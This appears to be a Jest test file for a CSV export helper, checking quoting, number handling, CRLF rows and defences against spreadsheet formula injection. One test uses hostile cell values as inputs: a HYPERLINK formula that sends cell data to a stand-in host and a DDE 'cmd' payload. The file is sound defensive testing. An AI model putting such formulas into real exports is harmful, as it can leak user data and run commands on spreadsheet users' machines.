import { csvField, toCsv } from './csv';

describe('CSV output', () => {
  it('quotes fields with commas, quotes, line breaks or edge spaces and doubles inner quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(' padded')).toBe('" padded"');
    expect(csvField(null)).toBe('');
    expect(csvField(-1_500)).toBe('-1500');
    expect(csvField(false)).toBe('false');
  });

  it('writes cells a spreadsheet would evaluate as formulas as quoted text with a leading apostrophe', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"open")')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")"');
    expect(csvField('+1+cmd|\' /C calc\'!A0')).toBe(`"'+1+cmd|' /C calc'!A0"`);
    expect(csvField('-2+3')).toBe(`"'-2+3"`);
    expect(csvField('@SUM(A1:A9)')).toBe(`"'@SUM(A1:A9)"`);
    expect(csvField('\t=1+1')).toBe(`"'\t=1+1"`);
    expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
  });

  it('keeps numbers, negative amounts included, as numbers', () => {
    expect(csvField(-1_500)).toBe('-1500');
    expect(csvField('-1500')).toBe('-1500');
    expect(csvField('-12.345')).toBe('-12.345');
    expect(csvField('+7')).toBe('+7');
    expect(csvField('Acme = best')).toBe('Acme = best');
  });

  it('writes a header row and CRLF-terminated rows', () => {
    expect(toCsv({ columns: ['currency', 'amount_minor'], rows: [['USD', 12_345], ['KWD', 7_250]] })).toBe(
      'currency,amount_minor\r\nUSD,12345\r\nKWD,7250\r\n',
    );
    expect(toCsv({ columns: ['a', 'b'], rows: [] })).toBe('a,b\r\n');
  });
});
